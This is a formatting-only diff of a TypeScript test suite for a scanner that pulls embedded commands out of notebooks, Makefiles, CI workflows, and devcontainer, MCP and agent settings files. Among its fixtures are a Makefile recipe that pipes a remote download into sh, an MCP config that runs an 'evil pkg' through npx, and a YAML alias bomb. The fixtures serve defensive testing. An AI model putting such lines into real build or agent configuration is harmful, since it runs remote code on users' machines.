@@ -8,15 +8,24 @@ import type { FrontEndResult } from '../../../scanner/rounds/frontend.ts';
 
 function analyse(path: string, text: string): FrontEndResult {
   const language = languageOf(path, text);
-  const front = language === 'dockerfile' || language === 'makefile' ? analyseBuildFile : analyseJson;
-  return front([{ path, file: path, language, text, context: 'code', depth: 0 }], { files: new Set([path]), steps: new Steps() });
+  const front =
+    language === 'dockerfile' || language === 'makefile' ? analyseBuildFile : analyseJson;
+  return front([{ path, file: path, language, text, context: 'code', depth: 0 }], {
+    files: new Set([path]),
+    steps: new Steps(),
+  });
 }
 
 const programs = (path: string, text: string): string[] =>
-  analyse(path, text).embedded.map((one) => `${one.language}: ${one.text.trim().replaceAll('\0', '?')}`);
+  analyse(path, text).embedded.map(
+    (one) => `${one.language}: ${one.text.trim().replaceAll('\0', '?')}`,
+  );
 
 describe('a notebook', () => {
-  const cell = (type: string, ...source: readonly string[]): object => ({ cell_type: type, source });
+  const cell = (type: string, ...source: readonly string[]): object => ({
+    cell_type: type,
+    source,
+  });
   const notebook = (cells: readonly object[], language = 'python'): string =>
     JSON.stringify({ nbformat: 4, metadata: { kernelspec: { language } }, cells }, null, 1);
 
@@ -42,17 +51,28 @@ describe('a notebook', () => {
   });
 
   it('may be in another language, of an older form, or have outputs that act', () => {
-    expect(programs('a.ipynb', notebook([cell('code', 'system("id")')], 'R'))).toEqual(['r: system("id")']);
+    expect(programs('a.ipynb', notebook([cell('code', 'system("id")')], 'R'))).toEqual([
+      'r: system("id")',
+    ]);
     const old = { worksheets: [{ cells: [{ cell_type: 'code', input: ['x = 1\n', 'y = 2'] }] }] };
     expect(programs('a.ipynb', JSON.stringify(old))).toEqual(['python: x = 1\ny = 2']);
-    const output = { cell_type: 'code', source: 'x', outputs: [{ data: { 'text/html': ['<script>', 'f()</script>'] } }] };
-    expect(programs('a.ipynb', notebook([output]))).toEqual(['python: x', 'html: <script>', 'html: f()</script>']);
+    const output = {
+      cell_type: 'code',
+      source: 'x',
+      outputs: [{ data: { 'text/html': ['<script>', 'f()</script>'] } }],
+    };
+    expect(programs('a.ipynb', notebook([output]))).toEqual([
+      'python: x',
+      'html: <script>',
+      'html: f()</script>',
+    ]);
   });
 
   it('keeps the place of each line', () => {
     const text = notebook([cell('code', 'import os\n', '    !id -u\n', 'evil("x")\n')]);
     const [python, shell] = analyse('a.ipynb', text).embedded;
-    const at = (program: typeof python, word: string): number => rawOffset(program?.map ?? [], program?.text.indexOf(word) ?? 0);
+    const at = (program: typeof python, word: string): number =>
+      rawOffset(program?.map ?? [], program?.text.indexOf(word) ?? 0);
     expect(text.slice(at(python, 'evil')).startsWith('evil(')).toBe(true);
     expect(text.slice(at(shell, 'id')).startsWith('id -u')).toBe(true);
   });
@@ -82,13 +102,18 @@ describe('a file that builds', () => {
       fact.kind === 'dependency' ? [`${fact.name} ${fact.version} ${fact.pinned}`] : [],
     );
     expect(images).toEqual(['node 22 false', 'x  true']);
-    expect(result.facts.some((fact) => fact.kind === 'capability' && fact.api === 'ADD')).toBe(true);
+    expect(result.facts.some((fact) => fact.kind === 'capability' && fact.api === 'ADD')).toBe(
+      true,
+    );
   });
 
   it('gives the recipes of a makefile with its variables in place', () => {
     const text =
       'URL := https://203.0.113.7\n# what it is\nall: a b\n\t@curl $(URL)/x | sh\n\techo $$HOME $@\nV = $(shell id -u)\n';
-    expect(programs('Makefile', text)).toEqual(['shell: curl https://203.0.113.7/x | sh\necho $HOME ?', 'shell: id -u']);
+    expect(programs('Makefile', text)).toEqual([
+      'shell: curl https://203.0.113.7/x | sh\necho $HOME ?',
+      'shell: id -u',
+    ]);
   });
 });
 
@@ -99,8 +124,16 @@ describe('settings that hold commands', () => {
       'jobs:\n  a:\n    steps:\n      - run: |\n          npm ci\n          npm test\n',
       ['shell: npm ci\nnpm test'],
     ],
-    ['.github/workflows/ci.yml', 'jobs:\n  a:\n    steps:\n      - run: iwr x\n        shell: pwsh\n', ['powershell: iwr x']],
-    ['.gitlab-ci.yml', 'a: &x\n  script:\n    - id -u\nb:\n  <<: *x\n', ['shell: id -u', 'shell: id -u']],
+    [
+      '.github/workflows/ci.yml',
+      'jobs:\n  a:\n    steps:\n      - run: iwr x\n        shell: pwsh\n',
+      ['powershell: iwr x'],
+    ],
+    [
+      '.gitlab-ci.yml',
+      'a: &x\n  script:\n    - id -u\nb:\n  <<: *x\n',
+      ['shell: id -u', 'shell: id -u'],
+    ],
     [
       '.pre-commit-config.yaml',
       'repos:\n  - hooks:\n      - id: a\n        entry: bash -c "id -u"\n',
@@ -111,14 +144,26 @@ describe('settings that hold commands', () => {
       'services:\n  a:\n    command: ["sh", "-c"]\n    entrypoint: run me\n',
       ['shell: sh', 'shell: -c', 'shell: run me'],
     ],
-    ['.mcp.json', '{"mcpServers": {"a": {"command": "npx", "args": ["-y", "evil pkg"]}}}', ["shell: npx -y 'evil pkg'"]],
+    [
+      '.mcp.json',
+      '{"mcpServers": {"a": {"command": "npx", "args": ["-y", "evil pkg"]}}}',
+      ["shell: npx -y 'evil pkg'"],
+    ],
     ['.vscode/tasks.json', '{"tasks": [{"command": "curl", "args": ["x"]}]}', ['shell: curl x']],
     ['.devcontainer/devcontainer.json', '{"postCreateCommand": {"a": "id -u"}}', ['shell: id -u']],
     ['.devcontainer/devcontainer.json', '{"postCreateCommand": "id -u"}', ['shell: id -u']],
-    ['.claude/settings.json', '{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "id -u"}]}]}}', ['shell: id -u']],
+    [
+      '.claude/settings.json',
+      '{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "id -u"}]}]}}',
+      ['shell: id -u'],
+    ],
     ['pyproject.toml', '[tool.poe.tasks]\ntest = "id -u"\n', ['shell: id -u']],
     ['config.toml', '[mcp_servers.a]\ncommand = "id"\nargs = ["-u"]\n', ['shell: id -u']],
-    ['config.toml', 'mcp_servers = { a = { command = "id", args = [\n  "-u", # why\n] } }\n', ['shell: id -u']],
+    [
+      'config.toml',
+      'mcp_servers = { a = { command = "id", args = [\n  "-u", # why\n] } }\n',
+      ['shell: id -u'],
+    ],
     ['config.toml', 'mcp_servers.a.command = "id"\n', ['shell: id']],
     ['config.toml', "[mcp_servers.a]\n'command' = '''\nid\n-u'''\n", ['shell: id\n-u']],
     ['pyproject.toml', '[tool.poe.tasks."a b"]\nshell = "id \\u002du"\n', ['shell: id -u']],
@@ -130,7 +175,9 @@ describe('settings that hold commands', () => {
   it('are not analysed where they cannot be read', () => {
     expect(analyse('.github/workflows/a.yml', 'a: [\n').unanalysed).toHaveLength(1);
     expect(analyse('notes.yml', 'a: [\n').unanalysed).toEqual([]);
-    expect(analyse('.github/workflows/a.yml', `a: ${'x'.repeat(600_000)}`).unanalysed).toHaveLength(1);
+    expect(analyse('.github/workflows/a.yml', `a: ${'x'.repeat(600_000)}`).unanalysed).toHaveLength(
+      1,
+    );
   });
 
   it.each([
@@ -154,7 +201,10 @@ describe('settings that hold commands', () => {
   it('with aliases of aliases come to an end', () => {
     const bomb = `a: &a [x,x,x,x,x,x,x,x,x]\n${'bcdefghij'
       .split('')
-      .map((name, index) => `${name}: &${name} [${Array(9).fill(`*${'abcdefghij'[index]}`).join(',')}]`)
+      .map(
+        (name, index) =>
+          `${name}: &${name} [${Array(9).fill(`*${'abcdefghij'[index]}`).join(',')}]`,
+      )
       .join('\n')}\n`;
     expect(analyse('.github/workflows/a.yml', bomb).unanalysed).toHaveLength(1);
   });
